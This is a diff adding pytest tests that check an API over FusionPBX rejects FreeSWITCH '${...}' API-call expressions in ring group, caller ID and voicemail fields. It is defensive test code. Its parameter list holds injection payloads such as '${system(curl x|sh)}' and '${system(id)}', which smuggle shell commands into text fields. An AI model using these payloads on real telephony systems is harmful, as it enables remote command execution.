@@ -119,3 +119,53 @@ def test_empty_strings_stay_errors_where_null_is_not_allowed(client, tenants, bo
     """A required number, a boolean ("" would silently read as false) and a PIN."""
     r = client.post("/api/v1/extensions", json=body, headers=tenants.a.headers)
     assert r.status_code == 400, r.json
+
+
+# FreeSWITCH runs ${command(args)} found in the variables FusionPBX's Lua sets from these
+# fields (app/switch/resources/scripts/app/ring_groups/index.lua): only ${name} may stay.
+API_CALLS = ["${system(curl x|sh)}", "${sh(id)}", "Sales ${system(id)}", "${${a}}",
+             "${a:0:3}", "$${system(id)}", "${unclosed"]
+
+
+@pytest.mark.parametrize("value", API_CALLS)
+@pytest.mark.parametrize("path, body, field", [
+    ("/api/v1/ring-groups", {"ring_group_name": "Sales", "ring_group_extension": "2000"},
+     "ring_group_ringback"),
+    ("/api/v1/ring-groups", {"ring_group_name": "Sales", "ring_group_extension": "2000"},
+     "ring_group_cid_name_prefix"),
+    ("/api/v1/ring-groups", {"ring_group_name": "Sales", "ring_group_extension": "2000"},
+     "ring_group_distinctive_ring"),
+    ("/api/v1/extensions", {"extension": "1001"}, "effective_caller_id_name"),
+])
+def test_freeswitch_api_calls_in_text_are_400(client, tenants, fpbx_db, path, body, field,
+                                              value):
+    before = fpbx_db.fingerprint()
+    r = client.post(path, json={**body, field: value}, headers=tenants.a.headers)
+    assert r.status_code == 400, r.json
+    assert "${" in field_errors(r)[field]
+    assert fpbx_db.fingerprint() == before
+
+
+def test_patterned_fields_refuse_api_calls_too(client, tenants, fpbx_db):
+    """A pattern that lets ``$`` and braces through (an e-mail address may hold them)."""
+    r = client.post("/api/v1/extensions", json={"extension": "1001",
+                                                "voicemail_mail_to": "${system(id)}@x.com"},
+                    headers=tenants.a.headers)
+    assert r.status_code == 400, r.json
+    assert "${" in field_errors(r)["voicemail_mail_to"]
+    assert fpbx_db.rows("v_extensions") == []
+
+
+def test_plain_variables_stay_valid(client, tenants, fpbx_db):
+    """FusionPBX's own values: its default ringback and the global hold music."""
+    r = client.post("/api/v1/ring-groups", json={
+        "ring_group_name": "Sales", "ring_group_extension": "2000",
+        "ring_group_ringback": "${us-ring}", "ring_group_cid_name_prefix": "Sales"},
+        headers=tenants.a.headers)
+    assert r.status_code == 201, r.json
+    assert fpbx_db.rows("v_ring_groups")[0]["ring_group_ringback"] == "${us-ring}"
+    r = client.post("/api/v1/extensions", json={"extension": "1001",
+                                                "hold_music": "$${hold_music}"},
+                    headers=tenants.a.headers)
+    assert r.status_code == 201, r.json
+    assert fpbx_db.rows("v_extensions")[0]["hold_music"] == "$${hold_music}"
